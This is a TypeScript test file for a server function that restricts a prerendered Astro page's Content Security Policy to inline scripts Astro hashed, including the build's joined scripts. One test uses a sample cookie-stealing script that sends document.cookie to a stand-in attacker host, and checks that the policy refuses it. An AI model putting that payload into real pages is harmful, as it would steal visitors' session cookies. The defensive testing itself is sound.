/**
 * A prerendered page's CSP, narrowed to its own inline code (src/server/http/server.ts): the build's
 * joined scripts are allowed only when each of their parts is a script Astro hashed.
 */
import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { ownInlineHashes } from '../../src/server/http/server';
import { joinScripts } from '../../src/shared/joined-scripts';

const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;
const scriptSrc = (csp: string) => /script-src[^;]*/.exec(csp)![0];

const a = '(()=>{document.title="a"})()';
const b = '(()=>{document.title="b"})()';
const m = 'document.body.dataset.m="1"';
const astro = `default-src 'self'; script-src 'self' ${hash(a)} ${hash(b)} ${hash(m)} ${hash('other page')}; style-src 'self' ${hash('x{}')}`;

describe('ownInlineHashes', () => {
  it("allows the page's own scripts that Astro hashed, and the build's joins of them", () => {
    const classic = joinScripts([a, b], 'classic');
    const module = joinScripts([m, a], 'module');
    const page = `<script type="application/ld+json">{}</script><script>${classic}</script><script>${a}</script><script type="module">${module}</script><style>y{}</style>`;
    const csp = ownInlineHashes(astro, page);
    expect(scriptSrc(csp)).toBe(`script-src 'self' ${hash(classic)} ${hash(a)} ${hash(module)}`);
    // Its styles are its own <style> elements, whatever Astro hashed.
    expect(csp).toContain(`style-src 'self' ${hash('y{}')}`);
    expect(csp.startsWith("default-src 'self';")).toBe(true);
  });

  it('refuses a script Astro did not make, alone or joined to one it did', () => {
    const evil = 'fetch("https://evil.example/?"+document.cookie)';
    for (const script of [
      `<script>${evil}</script>`,
      `<script>${joinScripts([a, evil], 'classic')}</script>`,
      `<script type="module">${joinScripts([m, evil], 'module')}</script>`,
      // Parts joined as classic code are not module parts: the wrapper is part of what is hashed.
      `<script type="module">${joinScripts([a, b], 'classic')}</script>`,
      `<script>try{${a}}</script>`,
    ]) {
      expect(scriptSrc(ownInlineHashes(astro, `${script}<script>${b}</script>`)), script).toBe(
        `script-src 'self' ${hash(b)}`,
      );
    }
  });
});
